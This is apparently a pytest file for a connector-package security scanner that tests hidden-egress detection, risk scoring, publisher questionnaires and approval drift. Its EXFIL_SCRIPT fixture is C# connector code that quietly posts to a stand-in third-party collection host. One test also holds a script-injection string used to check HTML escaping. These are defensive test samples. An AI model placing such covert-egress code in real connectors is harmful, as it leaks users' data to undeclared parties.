"""The reviewer's dossier: hidden egress (SEC017), the risk score, the publisher questionnaire, approvals."""

from __future__ import annotations

import json

import jsonschema

from tests.conftest import ROOT, shared_dir
from tests.test_security import make
from vetter.engine.cases import base_files

MINIMAL = ROOT / "fixtures" / "packages" / "minimal"
REPORT_SCHEMA = json.loads((ROOT / "vetter" / "schemas" / "report-v2.schema.json").read_text())
EXFIL_SCRIPT = """public class Script : ScriptBase
{
    public override async Task<HttpResponseMessage> ExecuteAsync()
    {
        if (this.Context.OperationId == "GetWidget")
        {
            var copy = new HttpRequestMessage(HttpMethod.Post, "https://collect.datasink-analytics.net/ingest");
            await this.Context.SendAsync(copy, this.CancellationToken).ConfigureAwait(false);
        }
        var token = new HttpRequestMessage(HttpMethod.Post, "https://login.contoso.com/oauth/token");
        await this.Context.SendAsync(token, this.CancellationToken).ConfigureAwait(false);
        return await this.Context.SendAsync(this.Context.Request, this.CancellationToken).ConfigureAwait(false);
    }
}
"""


def package_dir(root, name, script=None):
    pkg = root / name
    pkg.mkdir()
    for file, raw in base_files("minimal").items():
        (pkg / file).write_bytes(raw)
    if script:
        (pkg / "script.csx").write_text(script)
    return pkg


def run(package, catalog, select=("ALL",), options=None):
    from vetter.engine.runner import run_rules
    from vetter.engine.settings import Settings
    from vetter.model.options import RunOptions

    return run_rules(package, catalog, Settings(select=list(select)).bind(catalog), options or RunOptions())


# -- hidden egress ----------------------------------------------------------------------------
def test_hidden_egress_severity_follows_who_runs_the_host(catalog):
    result = run(make(extra={"script.csx": EXFIL_SCRIPT.encode()}), catalog, ["SEC017"])
    got = sorted((f.line, f.column, f.severity.value) for f in result.findings)
    # the third party at its line is a warning; the declared host's own domain is info
    assert got == [(7, 64, "warning"), (10, 61, "info")]


def test_hidden_egress_on_the_corpus_names_the_script_line_and_operation(catalog):
    from vetter.model.loader import find_packages

    root = shared_dir("corpus")
    source = next(iter(find_packages([root / "independent-publisher-connectors" / "Nationalize.io"])))
    result = run(source.load(), catalog, ["SEC017"])
    assert [(f.file, f.line, f.severity.value) for f in result.findings] == [("script.csx", 54, "warning")]
    assert "'api.nationalize.io'" in result.findings[0].message
    assert "declared: api.genderize.io" in result.findings[0].message
    assert result.findings[0].message.endswith("operations: CheckNamesNationality.")


# -- risk score -------------------------------------------------------------------------------------
def scan_json(*paths, extra=()):
    from tests.test_cli import run

    result = run("scan", *map(str, paths), "--format", "json", *extra)
    return result, json.loads(result.output[: result.output.rindex("}") + 1])


def test_risk_score_of_the_minimal_package_is_traced_to_each_point():
    from vetter.security.risk import risk_score

    _, data = scan_json(MINIMAL)
    risk = data["packages"][0]["risk"]
    assert risk["score"] == 15 and risk["capped"] is False
    assert [(r["id"], r["points"], r["count"]) for r in risk["reasons"]] == [
        ("stored-credential", 10, 1), ("third-party-host", 3, 1), ("unknown-geography", 2, 1)
    ]
    assert sum(r["points"] for r in risk["reasons"]) == risk["score"]
    assert risk["reasons"][1]["items"] == [{"what": "api.contoso.com", "file": "apiDefinition.swagger.json", "pointer": "/host", "line": 13}]
    assert risk_score(data["packages"][0]) == risk  # the same input gives the same score, from the report alone


def test_risk_rows_are_capped_and_the_total_is_at_most_100():
    from vetter.security.risk import risk_score

    hosts = [{"host": f"h{i}.example.org", "fixed": True, "operator": "third-party", "geography": "unknown", "flags": [], "found": [{"file": "a", "pointer": "/host", "line": 1}]} for i in range(9)]
    findings = [{"rule": "SEC010", "name": "endpoint-tunnel", "category": "security", "severity": "error", "file": "a", "pointer": None, "line": 1} for _ in range(7)]
    findings.append({"rule": "SEC015", "name": "x", "category": "security", "severity": "info", "file": "a", "pointer": None, "line": 1})
    findings.append({"rule": "SWG001", "name": "x", "category": "swagger", "severity": "error", "file": "a", "pointer": None, "line": 1})
    schemes = [{"kind": "apikey", "identity": "stored-credential", "evidence": []}]
    risk = risk_score({"files": [{"name": "script.csx", "sha256": "0"}], "security": {"auth": {"schemes": schemes}, "egress": {"hosts": hosts}}, "findings": findings})
    points = {r["id"]: r["points"] for r in risk["reasons"]}
    # 9 hosts x 3 capped at 12, x 2 capped at 8; 7 errors x 10 capped at 40; SEC015 and swagger errors do not count
    assert points == {"stored-credential": 10, "third-party-host": 12, "unknown-geography": 8, "custom-code": 5, "error-finding": 40}
    assert risk["score"] == 75 and risk["capped"] is False


def test_package_risk_from_the_weighed_findings_is_the_score_of_all_of_them():
    """The scan gives the score only the findings it weighs (their report form costs): the same score
    as from every finding, in every row, items in the same order (waived, excluded and other categories mixed)."""
    from vetter.base.rule import Severity
    from vetter.commands.scan import package_risk
    from vetter.engine.runner import Finding, PackageResult
    from vetter.report.model import finding_dict
    from vetter.security.risk import risk_score

    def finding(rule, category, severity, line, waiver=None):
        return Finding(rule, f"name-{rule}", (), category, severity, f"m{line}", "", "a.json", f"/p/{line}", line, 1, f"fp{line}", waiver)

    kinds = [("SEC010", "security"), ("SEC015", "security"), ("SWG001", "swagger"), ("SCR002", "script"), ("SCR001", "script"),
             ("SEC001", "secrets"), ("CRT001", "certification")]
    findings = [
        finding(rule, category, severity, 10 * i + j, {"reason": "r"} if (i + j) % 4 == 0 else None)
        for i, (rule, category) in enumerate(kinds) for j, severity in enumerate([*Severity, *Severity])
    ]
    result = PackageResult("p", "o", "folder", {"script.csx": "0", "a.json": "1"}, findings)
    security = {"auth": {"schemes": [{"kind": "apikey", "identity": "stored-credential", "evidence": []}]}}
    got = package_risk(result, security)
    files = [{"name": "a.json", "sha256": "1"}, {"name": "script.csx", "sha256": "0"}]
    assert got == risk_score({"files": files, "security": security, "findings": [finding_dict(f) for f in findings]})
    assert [(r["id"], r["count"]) for r in got["reasons"]] == [
        ("stored-credential", 1), ("custom-code", 1), ("error-finding", 6), ("warning-finding", 6), ("info-finding", 6)
    ]


def test_risk_is_not_lowered_by_a_baseline_and_portfolio_text_sorts_by_it(tmp_path):
    from tests.test_cli import run

    risky = package_dir(tmp_path, "b-risky", EXFIL_SCRIPT)
    calm = package_dir(tmp_path, "a-calm")
    _, before = scan_json(risky)
    baseline = tmp_path / "baseline.json"
    run("scan", str(risky), "--write-baseline", str(baseline))
    _, after = scan_json(risky, extra=("--baseline", str(baseline)))
    assert after["packages"][0]["findings"] == [] and after["packages"][0]["risk"] == before["packages"][0]["risk"]
    # stored credential 10, three third-party hosts 9 and their unknown geography 6, custom code 5,
    # the SEC017 warning 3 and info 1: the baseline hid both findings, the score kept them
    assert before["packages"][0]["risk"]["score"] == 34
    text = run("scan", str(calm), str(risky), "--verbose").output
    assert text.index(str(risky)) < text.index(str(calm))  # the riskier package first, although it sorts after


def test_fail_on_risk_gates_on_the_score():
    from tests.test_cli import run

    assert run("scan", str(MINIMAL), "--fail-on-risk", "15").exit_code == 1
    passed = run("scan", str(MINIMAL), "--fail-on-risk", "16")
    assert passed.exit_code == 0 and "0 package(s) at or above fail-on-risk=16" in passed.output
    result, data = scan_json(MINIMAL, extra=("--fail-on-risk", "10"))
    assert result.exit_code == 1 and data["fail_on_risk"] == 10 and data["summary"]["failed"] is True
    assert run("scan", str(MINIMAL), "--fail-on-risk", "101").exit_code == 2


def test_risk_on_the_corpus_is_deterministic_and_explained():
    root = shared_dir("corpus")
    pkg = root / "independent-publisher-connectors" / "Nationalize.io"
    _, one = scan_json(pkg)
    _, two = scan_json(pkg)
    risk = one["packages"][0]["risk"]
    assert risk == two["packages"][0]["risk"]
    assert risk["score"] == 31
    assert [(r["id"], r["points"]) for r in risk["reasons"]] == [
        ("stored-credential", 10), ("third-party-host", 6), ("unknown-geography", 4), ("custom-code", 5), ("warning-finding", 6)
    ]
    assert "SEC017 egress-undeclared" in [i["what"] for i in risk["reasons"][-1]["items"]]


# -- the publisher questionnaire ----------------------------------------------------------------
def test_questionnaire_asks_per_third_party_with_what_the_package_shows():
    _, data = scan_json(MINIMAL)
    q = data["packages"][0]["questions"]
    assert q["residency"] is None and q["note"] is None
    assert [p["party"] for p in q["parties"]] == ["contoso.com"]
    questions = {x["id"]: x for x in q["parties"][0]["questions"]}
    assert list(questions) == ["storage", "interception", "sign-in", "geography", "personal-data"]
    assert questions["storage"]["known"][0] == "Privacy policy: https://www.contoso.com/privacy (https, on the publisher's own domain)."
    assert questions["sign-in"]["known"] == [
        "apikey: a stored API key: it cannot be held to the tenant's conditional access or multi-factor sign-in, and every co-owner of a connection reuses it."
    ]
    assert questions["geography"]["known"] == ["api.contoso.com: geography unknown (nothing in the package shows where it runs)."]
    assert "EU-based company" in questions["geography"]["question"]


def test_questionnaire_follows_residency_and_entra_sign_in(catalog):
    from vetter.model.options import RunOptions
    from vetter.report.export import profile_dict
    from vetter.security.questions import questionnaire

    def aad(ap):
        ap["properties"]["connectionParameters"] = {
            "token": {"type": "oauthSetting", "oAuthSettings": {"identityProvider": "aad", "clientId": "c", "scopes": [], "redirectMode": "GlobalPerConnector",
                      "customParameters": {"resourceUri": {"value": "https://api.contoso.com"}, "loginUri": {"value": "https://login.microsoftonline.com"}}}}
        }

    def aad_swagger(sw):
        sw["securityDefinitions"] = {"oauth2": {"type": "oauth2", "flow": "accessCode", "authorizationUrl": "https://login.microsoftonline.com/common/oauth2/authorize",
                                                "tokenUrl": "https://login.microsoftonline.com/common/oauth2/token", "scopes": {}}}
        sw["security"] = [{"oauth2": []}]
        sw["host"] = "api-eu.contoso.com"

    package = make(swagger_patch=aad_swagger, props_patch=aad)
    q = questionnaire(profile_dict(package, RunOptions(residency=("EU", "UK"))))
    assert q["residency"] == ["EU", "UK"]
    party = q["parties"][0]
    questions = {x["id"]: x for x in party["questions"]}
    assert questions["geography"]["question"] == "Does the data stay in EU, UK at every point: processing, storage, backups, support access and sub-processors?"
    assert questions["geography"]["known"] == ["api-eu.contoso.com: EU (region token 'eu' in label 'api-eu'); inside the allowed set."]
    assert questions["sign-in"]["known"][0].startswith("aad: Entra ID sign-in for each user: the tenant's conditional access")
    assert [p["party"] for p in q["parties"]] == ["contoso.com"]  # login.microsoftonline.com is Microsoft's: nothing to ask


def test_questionnaire_names_a_generic_oauth_provider_by_its_authorization_host():
    """A generic OAuth provider's identityProvider is ``oauth2``: the reader is told the host that signs users in."""
    from vetter.model.options import RunOptions
    from vetter.report.export import profile_dict
    from vetter.security.questions import questionnaire

    def oauth(provider, url):
        def patch(ap):
            settings = {"identityProvider": provider, "clientId": "c", "scopes": [], "redirectMode": "Global", "properties": {"IsFirstParty": "False"}}
            if url is not None:
                settings["customParameters"] = {"authorizationUrl": {"value": url}, "tokenUrl": {"value": "https://login.fabrikam.net/token"}}
            ap["properties"]["connectionParameters"] = {"token": {"type": "oauthSetting", "oAuthSettings": settings}}
        return patch

    def sign_in(provider, url):
        q = questionnaire(profile_dict(make(props_patch=oauth(provider, url)), RunOptions()))
        return {x["id"]: x for x in q["parties"][0]["questions"]}["sign-in"]["known"][0]

    tail = ": single sign-on and multi-factor sign-in are that provider's, not the tenant's conditional access."
    assert sign_in("oauth2", "https://Login.Fabrikam.net:443/authorize?x=1") == "oauth2: OAuth sign-in at login.fabrikam.net" + tail
    assert sign_in("oauth2generic", "https://user@id.fabrikam.net/authorize") == "oauth2generic: OAuth sign-in at id.fabrikam.net" + tail
    assert sign_in("oauth2", "https://{tenant}.fabrikam.net/authorize") == "oauth2: OAuth sign-in at {tenant}.fabrikam.net (a host the connection fills in)" + tail
    assert sign_in("oauth2", None) == "oauth2: OAuth sign-in at the publisher's identity provider" + tail
    assert sign_in("github", "https://github.com/login/oauth/authorize") == "first-party: OAuth sign-in at github" + tail
    assert sign_in("oauth2generic", "https://login.microsoftonline.com/common/oauth2/v2.0/authorize") == (
        "oauth2generic: OAuth sign-in at login.microsoftonline.com, Microsoft Entra ID: the conditional access and multi-factor policies"
        " of the tenant the account signs in to apply."
    )


def test_questionnaire_does_not_call_a_host_built_at_run_time_another_domain():
    """A host set by the connection has no domain to compare with the publisher's website: the storage
    answer says the package cannot tell whose service it is (it said it was 'not the domain of the website')."""
    from vetter.model.options import RunOptions
    from vetter.report.export import profile_dict
    from vetter.security.questions import questionnaire

    def props(ap):
        ap["properties"]["connectionParameters"]["host"] = {"type": "string", "uiDefinition": {"displayName": "Host"}}
        ap["properties"]["policyTemplateInstances"] = [{"templateId": "dynamichosturl", "parameters": {"x-ms-apimTemplateParameter.urlTemplate": "@connectionParameters('host')"}}]

    q = questionnaire(profile_dict(make(props_patch=props), RunOptions()))
    party = next(p for p in q["parties"] if p["party"] == "@connectionParameters('host')")
    storage = {x["id"]: x for x in party["questions"]}["storage"]["known"]
    assert storage[-1] == ("@connectionParameters('host') is a host set when a connection is made or by the call itself: the package cannot show "
                           "whose service receives the data, nor whether the publisher's privacy policy covers it.")
    assert not any("is not the domain of the publisher's website" in line for line in storage)


def test_questions_command_prints_only_the_questionnaire(tmp_path):
    from tests.test_cli import run

    pkg = package_dir(tmp_path, "pkg", EXFIL_SCRIPT)
    result = run("questions", str(pkg), "--format", "markdown")
    assert result.exit_code == 0
    out = result.output
    assert out.startswith("## Questions for the publisher of pkg\n")
    assert "### `datasink-analytics.net`" in out and "### `contoso.com`" in out
    assert "`collect.datasink-analytics.net` (third-party, geography unknown, not declared in the swagger)" in out
    assert "error" not in out and "SEC017" not in out  # no findings, only questions
    assert out.count("1. **Does the service store the data it receives?") == 2
    data = json.loads(run("questions", str(pkg), "--format", "json").output)
    assert [p["party"] for p in data["packages"][0]["questions"]["parties"]] == ["contoso.com", "datasink-analytics.net"]


def test_questionnaire_on_the_corpus_names_the_undeclared_script_host():
    from tests.test_cli import run

    pkg = shared_dir("corpus") / "independent-publisher-connectors" / "Nationalize.io"
    out = run("questions", str(pkg)).output
    assert "nationalize.io: api.nationalize.io (third-party, unknown, undeclared)" in out
    assert "reached only from script.csx line 54, not declared in the swagger" in out


# -- approvals -------------------------------------------------------------------------------------
def approve(tmp_path, *names, extra=()):
    from tests.test_cli import run

    return run("approve", *names, "--reviewer", "Ada", "--note", "Egress reviewed.", "--date", "2026-12-01", *extra, cwd=tmp_path)


def scan_approved(tmp_path, *names, extra=()):
    from tests.test_cli import run

    result = run("scan", *names, "--approvals", "vetter-approvals.toml", "--format", "json", *extra, cwd=tmp_path)
    data = json.loads(result.output[: result.output.rindex("}") + 1])
    jsonschema.validate(data, REPORT_SCHEMA)
    return result, data


def test_approve_then_change_a_host_reports_the_drift(tmp_path):
    package_dir(tmp_path, "pkg", EXFIL_SCRIPT)
    done = approve(tmp_path, "pkg", extra=("--waive", "SEC017"))
    assert done.exit_code == 0, done.output
    text = (tmp_path / "vetter-approvals.toml").read_text()
    assert text.count("\n[[approval]]\n") == 1 and 'package = "pkg"' in text and 'waive = [\n    "SEC017",\n]' in text

    result, data = scan_approved(tmp_path, "pkg")
    p = data["packages"][0]
    assert p["approval"]["state"] == "approved" and p["approval"]["drift"] == {}
    assert p["approval"]["approved"]["identity"]["hosts"] == ["api.contoso.com", "collect.datasink-analytics.net", "login.contoso.com"]
    assert [(f["rule"], f["waiver"]["owner"]) for f in p["findings"]] == [("SEC017", "Ada"), ("SEC017", "Ada")]  # the approval accepts them
    assert result.exit_code == 0

    swagger = tmp_path / "pkg" / "apiDefinition.swagger.json"
    swagger.write_text(swagger.read_text().replace('"host": "api.contoso.com"', '"host": "api.contoso-relay.net"'))
    result, data = scan_approved(tmp_path, "pkg")
    p = data["packages"][0]
    assert p["approval"]["state"] == "changed"
    assert p["approval"]["drift"]["hosts"] == {"added": ["api.contoso-relay.net"], "removed": ["api.contoso.com"]}
    drift = [f for f in p["findings"] if f["rule"] == "VET014"]
    assert [f["severity"] for f in drift] == ["error"]
    assert "hosts: new api.contoso-relay.net, no longer api.contoso.com" in drift[0]["message"]
    assert "Its 1 waiver(s) no longer apply." in drift[0]["message"]
    assert all(f["waiver"] is None for f in p["findings"])
    assert result.exit_code == 1


def test_never_approved_and_appending_keeps_the_chain(tmp_path):
    package_dir(tmp_path, "one")
    package_dir(tmp_path, "two")
    assert approve(tmp_path, "one").exit_code == 0
    _, data = scan_approved(tmp_path, "one", "two")
    states = {p["name"]: p["approval"]["state"] for p in data["packages"]}
    assert states == {"one": "approved", "two": "never-approved"}
    missing = [f for p in data["packages"] for f in p["findings"] if f["rule"] == "VET015"]
    assert [(f["severity"], f["file"]) for f in missing] == [("warning", ".")]
    assert approve(tmp_path, "two").exit_code == 0
    _, data = scan_approved(tmp_path, "one", "two")
    assert {p["approval"]["state"] for p in data["packages"]} == {"approved"} and data["gate"] is None


def test_a_tampered_or_malformed_decision_file_is_a_finding_not_a_crash(tmp_path):
    from tests.test_cli import run

    package_dir(tmp_path, "pkg")
    assert approve(tmp_path, "pkg").exit_code == 0
    decisions = tmp_path / "vetter-approvals.toml"
    decisions.write_text(decisions.read_text().replace("risk_score = 15", "risk_score = 5"))
    result, data = scan_approved(tmp_path, "pkg")
    assert [(f["rule"], f["line"]) for f in data["gate"]["findings"]] == [("VET013", 7)]
    assert "changed after it was written" in data["gate"]["findings"][0]["message"]
    assert data["packages"][0]["approval"]["state"] == "never-approved"  # the tampered entry approves nothing
    refused = approve(tmp_path, "pkg")
    assert refused.exit_code == 2 and "before appending" in refused.output

    for bad in ('format = "vetter-approvals-v1"\n[[approval]]\npackage = [1, 2\n', "not toml at all = = =\n", '[[approval]]\npackage = "pkg"\n', "\udcff"):
        decisions.write_bytes(bad.encode("utf-8", "surrogateescape"))
        result, data = scan_approved(tmp_path, "pkg")
        assert result.exit_code == 1, result.output
        assert [f["rule"] for f in data["gate"]["findings"]] == ["VET013"]
    decisions.write_text('format = "vetter-approvals-v1"\n\n[[approval]]\npackage = "pkg"\nreviewer = 3\n')
    _, data = scan_approved(tmp_path, "pkg")
    assert data["gate"]["findings"][0]["line"] == 3 and "malformed" in data["gate"]["findings"][0]["message"]
    assert run("scan", "pkg", "--approvals", "missing.toml", cwd=tmp_path).exit_code == 2


def test_identity_drift_is_generic_over_its_keys():
    from vetter.commands.approvals import identity_drift, security_relevant

    approved = {"content_hash": "a", "risk_score": 30, "hosts": ["x"], "auth": ["apikey:stored-credential"], "tools_hash": "t1"}
    now = {"content_hash": "b", "risk_score": 20, "hosts": ["x"], "auth": ["aad:delegated"], "tools_hash": "t2"}
    drift = identity_drift(approved, now)
    assert drift == {
        "content_hash": {"approved": "a", "now": "b"},
        "risk_score": {"approved": 30, "now": 20},
        "auth": {"added": ["aad:delegated"], "removed": ["apikey:stored-credential"]},
        "tools_hash": {"approved": "t1", "now": "t2"},
    }
    assert security_relevant(drift) == ["auth", "tools_hash"]  # a lower score and a new content hash alone are not


def test_approvals_on_a_corpus_package_notice_a_planted_script_host(tmp_path):
    import shutil

    src = shared_dir("corpus") / "certified-connectors" / "ActiveCampaign"
    shutil.copytree(src, tmp_path / "ActiveCampaign")
    assert approve(tmp_path, "ActiveCampaign").exit_code == 0
    _, data = scan_approved(tmp_path, "ActiveCampaign")
    assert data["packages"][0]["approval"]["state"] == "approved"
    (tmp_path / "ActiveCampaign" / "script.csx").write_text(EXFIL_SCRIPT.replace("GetWidget", "ListContacts"))
    _, data = scan_approved(tmp_path, "ActiveCampaign")
    p = data["packages"][0]
    assert p["approval"]["state"] == "changed"
    assert p["approval"]["drift"]["hosts"]["added"] == ["collect.datasink-analytics.net", "login.contoso.com"]
    assert [f["line"] for f in p["findings"] if f["rule"] == "SEC017"] == [7, 10]


# -- vetter diff explains the score's change ---------------------------------------------------------
DIFF_SCHEMA = json.loads((ROOT / "vetter" / "schemas" / "diff-report-v1.schema.json").read_text())


def test_diff_explains_the_risk_change_row_by_row(tmp_path):
    from tests.test_cli import run

    new = package_dir(tmp_path, "new", EXFIL_SCRIPT)
    result = run("diff", str(MINIMAL), str(new), "--risk", "--format", "json")
    data = json.loads(result.output)
    jsonschema.validate(data, DIFF_SCHEMA)
    risk = data["risk"]
    assert (risk["old"], risk["new"], risk["delta"]) == (15, 34, 19)
    rows = {r["id"]: r for r in risk["rows"]}
    assert list(rows) == ["third-party-host", "unknown-geography", "custom-code", "warning-finding", "info-finding"]
    assert rows["third-party-host"]["added"] == ["collect.datasink-analytics.net", "login.contoso.com"] and rows["third-party-host"]["delta"] == 6
    assert sum(r["delta"] for r in risk["rows"]) == risk["delta"]
    text = run("diff", str(MINIMAL), str(new), "--risk").output
    assert "risk score: 15 → 34 (+19)" in text and "+5 custom-code (0 → 5): +script.csx" in text
    assert "risk" not in json.loads(run("diff", str(MINIMAL), str(new), "--format", "json").output)  # off by default


def test_diff_risk_on_a_corpus_history_pair():
    from tests.test_cli import run

    pair = shared_dir("history-pairs") / "independent-publisher-connectors" / "AccuWeather"
    data = json.loads(run("diff", str(pair / "001-old.json"), str(pair / "001-new.json"), "--risk", "--format", "json").output)
    assert (data["risk"]["old"], data["risk"]["new"]) == (28, 31)
    assert [(r["id"], r["added"], r["removed"]) for r in data["risk"]["rows"]] == [("personal-data", ["SearchLocationIP -> dataservice.accuweather.com"], [])]


def test_security_docs_hold_the_weights_table_and_the_worked_corpus_examples():
    from vetter.security.hosts import data

    text = (ROOT / "docs" / "security.md").read_text()
    for row in data("risk")["rows"]:
        assert f"| `{row['id']}` | {row['source']} | {row['each']} | {row['cap']} |" in text, row["id"]
    corpus = shared_dir("corpus")
    for group, name, score in (("certified-connectors", "ActiveCampaign", 20), ("independent-publisher-connectors", "Nationalize.io", 31), ("certified-connectors", "DocuSign", 62)):
        _, report = scan_json(corpus / group / name)
        assert report["packages"][0]["risk"]["score"] == score
        assert f"- **{name}** ({group}): **{score}**." in text


def test_the_questionnaire_is_inert_in_html_and_markdown(tmp_path):
    from tests.test_cli import run
    from tests.test_trust import _outside_code

    pkg = package_dir(tmp_path, "pkg")
    swagger = pkg / "apiDefinition.swagger.json"
    hostile = "https://www.contoso.com/privacy<script>alert(1)</script>|x"
    swagger.write_text(swagger.read_text().replace("https://www.contoso.com/privacy", hostile.replace("<", "\\u003c").replace(">", "\\u003e")))
    html = run("scan", str(pkg), "--format", "html").output
    assert "privacy&lt;script&gt;alert(1)&lt;/script&gt;|x" in html and "<script>alert(1)" not in html
    for args in (("scan", str(pkg), "--format", "markdown", "--verbose"), ("questions", str(pkg), "--format", "markdown")):
        md = run(*args).output  # package text sits in code spans: shown as written, never rendered
        assert "`Privacy policy: https://www.contoso.com/privacy<script>alert(1)</script>" in md
        assert not [t for t in _outside_code(md) if "alert" in t or t.startswith("html")], md
